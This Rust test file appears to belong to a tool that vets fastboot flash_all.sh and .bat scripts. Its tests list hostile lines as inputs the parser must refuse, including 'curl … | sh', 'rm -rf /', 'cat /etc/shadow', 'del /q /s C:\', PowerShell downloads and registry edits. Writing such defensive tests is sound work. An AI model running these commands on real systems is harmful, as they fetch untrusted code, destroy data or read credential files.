//! Lines that are not part of a flash script's vocabulary refuse the whole script, naming the
//! file, the line number and the text — in taken and untaken branches alike — and the small
//! constructs that are part of it work in isolation.

use mi_flash::rom::plan::{Action, AntiSource, MemoryFiles, RebootTarget};
use mi_flash::rom::script::{parse_script, ScriptError, ScriptErrorKind};

const SH_HEAD: &str = "fastboot $* getvar product 2>&1 | grep \"^product: *piano\"\nif [ $? -ne 0 ] ; then echo \"Missmatching image and device\"; exit 1; fi\n";
const BAT_HEAD: &str = "fastboot %* getvar product 2>&1 | findstr /r /c:\"^product: *piano\" || exit /B 1\n";

fn refuse(name: &str, text: &str) -> ScriptError {
    match parse_script(name, text.as_bytes(), &MemoryFiles::new()) {
        Ok(plan) => panic!("{name} was accepted:\n{text}\n{plan}"),
        Err(e) => e,
    }
}

fn assert_refused_at(name: &str, text: &str, line: usize, needle: &str) {
    let e = refuse(name, text);
    assert_eq!(e.file, name);
    assert_eq!(e.line, line, "{e}");
    assert!(e.text.contains(needle), "error text `{}` should contain `{needle}`: {e}", e.text);
    let shown = e.to_string();
    assert!(shown.contains(name) && shown.contains(&format!("line {line}")), "{shown}");
}

#[test]
fn hostile_sh_lines() {
    let cases = [
        "fastboot $* flash boot $(curl x)/images/boot.img",
        "fastboot $* flash boot `curl -s evil`",
        "echo \"$(wget http://x)\"",
        "rm -rf /",
        "fastboot $* flash boot `dirname $0`/images/boot.img > /tmp/x",
        "echo hi >> ~/.bashrc",
        "eval \"fastboot $* reboot\"",
        "source ./other.sh",
        ". ./other.sh",
        "fastboot $* reboot; rm -rf /",
        "fastboot $* reboot && curl http://x | sh",
        "fastboot $* getvar product 2>&1 | sh",
        "fastboot $* reboot &",
        "X=`id`",
        "fastboot $* flash boot /etc/passwd",
        "fastboot $* flash boot `dirname $0`/../../etc/passwd",
        "$CMD -rf /",
        "cat /etc/shadow",
        "fastboot $* flash boot $((1+1))",
        "fastboot $* reboot < /dev/tty",
        "while true; do fastboot $* reboot; done",
    ];
    for case in cases {
        let text = format!("{SH_HEAD}{case}\nfastboot $* reboot\n");
        let first = case.split_whitespace().next().unwrap_or(case);
        assert_refused_at("flash_all.sh", &text, 3, first);
    }
}

#[test]
fn hostile_bat_lines() {
    let cases = [
        "del /q /s C:\\",
        "fastboot %* reboot & del x",
        "fastboot %* reboot && curl http://x",
        "fastboot %* flash boot %~dp0images\\boot.img > C:\\x.txt",
        "echo x >> %USERPROFILE%\\a.bat",
        "call other.bat",
        "start evil.exe",
        "powershell -Command \"iwr x\"",
        "for /f %%a in ('curl x') do (set A=%%a)",
        "fastboot %* getvar product 2>&1 | cmd",
        "fastboot %* flash boot %0",
        "fastboot %* flash boot C:\\Windows\\x.img",
        "set X=1 & reg add HKLM\\x",
    ];
    for case in cases {
        let text = format!("{BAT_HEAD}{case}\nfastboot %* reboot\n");
        let first = case.split_whitespace().next().unwrap_or(case);
        assert_refused_at("flash_all.bat", &text, 2, first);
    }
}

#[test]
fn untaken_branches_are_vetted_too() {
    // The package has no such file, so the branch never runs — it is still refused.
    let sh = format!("{SH_HEAD}if [ -e `dirname $0`/images/none.img ]; then\nrm -rf /\nfi\nfastboot $* reboot\n");
    assert_refused_at("flash_all.sh", &sh, 4, "rm -rf");
    let bat = format!("{BAT_HEAD}if exist %~dp0images\\none.img (\n  del /q x\n) else (\n  fastboot %* reboot\n)\n");
    assert_refused_at("flash_all.bat", &bat, 3, "del");
    // After `exit`, a fastboot line would be unreachable: refuse rather than guess.
    let sh = format!("{SH_HEAD}fastboot $* reboot\nexit 0\nfastboot $* erase userdata\n");
    assert_refused_at("flash_all.sh", &sh, 5, "erase userdata");
}

#[test]
fn unknown_fastboot_commands_and_shapes_are_refused() {
    for (case, needle) in [
        ("fastboot $* -w", "-w"),
        ("fastboot $* boot `dirname $0`/images/boot.img", "boot"),
        ("fastboot $* flashing unlock", "unlock"),
        ("fastboot $* flash boot", "flash boot"),
        ("fastboot $* -s 123 reboot", "-s"),
        ("fastboot $* set_active c", "set_active"),
    ] {
        let e = refuse("flash_all.sh", &format!("{SH_HEAD}{case}\n"));
        assert_eq!(e.line, 3, "{e}");
        assert!(e.text.contains(needle), "{e}");
        assert_eq!(e.kind, ScriptErrorKind::Unsupported, "{e}");
    }
}

#[test]
fn handlers_that_do_more_than_exit_are_refused() {
    let e = refuse("flash_all.sh", &format!("{SH_HEAD}fastboot $* flash boot `dirname $0`/images/boot.img || fastboot $* erase boot\n"));
    assert_eq!(e.line, 3, "{e}");
    let e = refuse("flash_all.bat", &format!("{BAT_HEAD}fastboot %* flash boot %~dp0images\\boot.img || fastboot %* reboot\n"));
    assert_eq!(e.line, 2, "{e}");
}

#[test]
fn small_vocabulary_in_isolation() {
    let files = MemoryFiles::new().with("images/boot.img", b"x");
    let sh = "#!/bin/sh\nfastboot $* getvar product 2>&1 | grep -E \"^product: *MSM8953$|^product: *mido$\"\nif [ $? -ne 0 ] ; then echo \"Missmatching image and device\"; exit 1; fi\n\
              CURRENT_ANTI_VER=2\nver=`fastboot $* getvar rollback_ver 2>&1 | grep -oP \"rollback_ver: \\K[0-9]+\"`\nif [ -z \"$ver\" ]; then ver=0; fi\n\
              if [ $ver -gt $CURRENT_ANTI_VER ]; then echo \"no\"; exit 1; fi\n\
              if [ -e $(dirname $0)/images/boot.img ]; then\n  fastboot $* flash boot \"$(dirname $0)/images/boot.img\"\nelse\n  fastboot $* erase boot\nfi\n\
              fastboot $*   set_active   b\nfastboot $* reboot bootloader\nfastboot $* reboot-bootloader\nfastboot $* oem cdms\nfastboot $* flashing lock\n";
    let plan = parse_script("flash_all.sh", sh.as_bytes(), &files).unwrap_or_else(|e| panic!("{e}"));
    let ops: Vec<&Action> = plan.steps.iter().map(|s| &s.action).collect();
    let Action::CheckProduct(p) = ops[0] else { panic!("{plan}") };
    assert_eq!(p.expected(), "MSM8953 or mido");
    assert!(p.matches("mido") && p.matches("MSM8953") && !p.matches("mido2"));
    let Action::CheckAnti(a) = ops[1] else { panic!("{plan}") };
    assert_eq!((a.var.as_str(), a.max, &a.from), ("rollback_ver", 2, &AntiSource::Script));
    assert!(matches!(ops[2], Action::Flash(f) if f.image == "images/boot.img"));
    assert!(matches!(ops[3], Action::SetActive { slot } if slot == "b"));
    assert!(matches!(ops[4], Action::Reboot { target: RebootTarget::Bootloader }));
    assert!(matches!(ops[5], Action::Reboot { target: RebootTarget::Bootloader }));
    assert!(matches!(ops[6], Action::Oem { command } if command == "cdms"));
    assert!(matches!(ops[7], Action::Lock { command } if command == "flashing lock"));
    assert_eq!(ops.len(), 8);
}

#[test]
fn product_alternatives_with_or() {
    let bat = "fastboot %* getvar product 2>&1 | findstr /r /c:\"^product: *karna\" || fastboot %* getvar product 2>&1 | findstr /r /c:\"^product: *surya\" || exit /B 1\nfastboot %* reboot\n";
    let plan = parse_script("flash_all.bat", bat.as_bytes(), &MemoryFiles::new()).unwrap_or_else(|e| panic!("{e}"));
    let c = plan.product_check().expect("product check");
    assert_eq!(c.expected(), "karna or surya");
    assert!(c.matches("karna") && c.matches("surya") && !c.matches("vayu"));
    let sh = "fastboot $* getvar product 2>&1 | grep \"chopin\" || exit 1\nfastboot $* reboot\n";
    let plan = parse_script("flash_all.sh", sh.as_bytes(), &MemoryFiles::new()).unwrap_or_else(|e| panic!("{e}"));
    let c = plan.product_check().expect("product check");
    assert!(c.matches("chopin") && c.matches("xchopinx") && !c.matches("corot"));
}

#[test]
fn commented_out_anti_check_is_enforced_and_reported() {
    let sh = format!("{SH_HEAD}#CURRENT_ANTI_VER=3\n#ver=`fastboot $* getvar anti 2>&1 | grep -oP \"anti: \\K[0-9]+\"`\nfastboot $* flash boot `dirname $0`/images/boot.img\n");
    let plan = parse_script("flash_all.sh", sh.as_bytes(), &MemoryFiles::new()).unwrap_or_else(|e| panic!("{e}"));
    let (pos, a) = plan.steps.iter().enumerate().find_map(|(i, s)| if let Action::CheckAnti(a) = &s.action { Some((i, a.clone())) } else { None }).expect("anti check");
    assert_eq!(a.max, 3);
    assert_eq!(a.from, AntiSource::Disabled);
    assert_eq!(pos, 1, "before the first write:\n{plan}");
    assert_eq!(plan.steps[pos].source.line, 3);
    assert!(plan.warnings.iter().any(|w| w.message.contains("commented-out anti-rollback")));
    assert_eq!(plan.disabled.len(), 1);
    let bat = format!("{BAT_HEAD}::set CURRENT_ANTI_VER=4\nfastboot %* reboot\n");
    let plan = parse_script("flash_all.bat", bat.as_bytes(), &MemoryFiles::new()).unwrap_or_else(|e| panic!("{e}"));
    assert!(plan.steps.iter().any(|s| matches!(&s.action, Action::CheckAnti(a) if a.max == 4)));
}

#[test]
fn non_text_and_wrong_names() {
    let e = parse_script("flash_all.sh", b"fastboot \xff\xfe reboot\n", &MemoryFiles::new()).unwrap_err();
    assert_eq!(e.line, 1);
    let e = parse_script("flash_all.py", b"", &MemoryFiles::new()).unwrap_err();
    assert_eq!(e.kind, ScriptErrorKind::Syntax);
    let e = parse_script("flash_all.sh", "echo \u{e000}\n".as_bytes(), &MemoryFiles::new()).unwrap_err();
    assert_eq!(e.line, 1);
}

#[test]
fn deep_nesting_and_long_chains_are_refused_not_a_crash() {
    // Each of these used to overflow the parser's stack (an abort, no message).
    let cases: Vec<(&str, String, &str)> = vec![
        ("flash_all.sh", format!("{}\n", "{ ".repeat(5000)), "nested more than 32 deep"),
        ("flash_all.sh", "if [ 1 -eq 1 ]; then\n".repeat(6000), "nested more than 32 deep"),
        ("flash_all.sh", format!("{}echo b\n", "echo a && ".repeat(50_000)), "more than 64 `&&` / `||`"),
        ("flash_all.bat", format!("{}echo x{}\n", "(".repeat(3000), ")".repeat(3000)), "nested more than 32 deep"),
        ("flash_all.bat", format!("{}echo x{}\n", "if 1==1 (".repeat(5000), ")".repeat(5000)), "nested more than 32 deep"),
        ("flash_all.bat", format!("{}echo b\n", "if 1==1 ".repeat(5000)), "nested more than 32 deep"),
        ("flash_all.bat", format!("{}echo b\n", "echo a && ".repeat(50_000)), "more than 64 `&&` / `||`"),
    ];
    for (name, text, reason) in cases {
        let e = refuse(name, &text);
        assert_eq!(e.kind, ScriptErrorKind::Refused, "{name}: {e}");
        assert!(e.reason.contains(reason), "{name}: {}", e.reason);
        assert!(e.line >= 1, "{name}: no line");
        // The line is shown, but not all of a megabyte of it.
        assert!(e.to_string().len() < 2000, "{name}: {} bytes of message", e.to_string().len());
    }
    // The limits leave room for real scripts: a few levels and a few `||` are fine.
    let ok = "if [ 1 -eq 1 ]; then\n  if [ 2 -eq 2 ]; then\n    { fastboot $* reboot || echo x && exit 1; }\n  fi\nfi\n";
    parse_script("flash_all.sh", ok.as_bytes(), &MemoryFiles::new()).unwrap();
}

#[test]
fn partition_names_oem_commands_and_reboots_that_a_flash_script_never_has() {
    let img = "`dirname $0`/images/boot.img";
    let files = MemoryFiles::new().with("images/boot.img", b"x");
    let refused = |body: String, line: usize, reason: &str| {
        let text = format!("{SH_HEAD}{body}");
        let e = match parse_script("flash_all.sh", text.as_bytes(), &files) {
            Ok(plan) => panic!("accepted:\n{text}\n{plan}"),
            Err(e) => e,
        };
        assert_ne!(e.kind, ScriptErrorKind::Package, "{e}");
        assert_eq!(e.line, line, "{e}");
        assert!(e.reason.contains(reason), "{}: {}", reason, e.reason);
    };
    // Partition names: a bootloader would refuse them only in the middle of the flash.
    refused(format!("fastboot $* flash boot:ab {img}\n"), 3, "not a partition name");
    refused(format!("fastboot $* flash {} {img}\n", "p".repeat(37)), 3, "not a partition name");
    refused("fastboot $* erase boot:x\n".into(), 3, "not a partition name");
    // oem commands that unlock, wipe or leave fastboot.
    for cmd in ["unlock", "unlock-go", "edl", "reboot-edl", "erase-all", "format", "wipe-data"] {
        refused(format!("fastboot $* oem {cmd}\n"), 3, "is not part of a flash script");
    }
    // A reboot out of fastboot before the end: the steps after it could not run.
    refused(format!("fastboot $* reboot recovery\nfastboot $* flash boot {img}\n"), 3, "must come last");
    refused("fastboot $* reboot\nfastboot $* erase misc\nfastboot $* reboot\n".to_string(), 3, "must come last");
    refused("fastboot $* reboot\nfastboot $* reboot bootloader\n".to_string(), 3, "must come last");
    // What real scripts do stays accepted: a GPT LUN, a bootloader reboot in the middle,
    // `oem cdms`, `oem lock`, and the reboot at the end.
    let ok = format!(
        "{SH_HEAD}fastboot $* flash partition:0 {img}\nfastboot $* reboot bootloader\nfastboot $* oem cdms\nfastboot $* flash {} {img}\nfastboot $* oem lock\nfastboot $* reboot\n",
        "p".repeat(36)
    );
    let plan = parse_script("flash_all.sh", ok.as_bytes(), &files).unwrap_or_else(|e| panic!("{e}"));
    assert!(matches!(plan.steps.last().map(|s| &s.action), Some(Action::Reboot { target: RebootTarget::System })));
}

#[test]
fn both_dialects_allow_32_nested_blocks_and_refuse_33() {
    for (name, open, close) in [("flash_all.sh", "if [ 1 -eq 1 ]; then\n", "fi\n"), ("flash_all.bat", "if 1==1 (\n", ")\n")] {
        let script = |levels: usize| format!("{}fastboot reboot\n{}", open.repeat(levels), close.repeat(levels)).replace("fastboot reboot", if name.ends_with(".sh") { "fastboot $* reboot" } else { "fastboot %* reboot" });
        parse_script(name, script(32).as_bytes(), &MemoryFiles::new()).unwrap_or_else(|e| panic!("{name}, 32 levels: {e}"));
        let e = refuse(name, &script(33));
        assert!(e.reason.contains("nested more than 32 deep"), "{name}: {e}");
    }
}
